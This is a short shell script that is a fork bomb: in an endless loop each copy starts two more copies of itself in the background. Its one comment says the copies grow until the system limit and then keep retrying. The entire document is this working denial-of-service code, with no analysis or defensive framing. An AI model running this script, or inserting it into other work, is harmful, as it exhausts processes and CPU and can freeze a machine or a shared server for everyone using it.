#!/bin/sh
# Every copy starts two more, until the limit; then tries again.
while :; do sh "$0" & sh "$0" & sleep 0.05; done
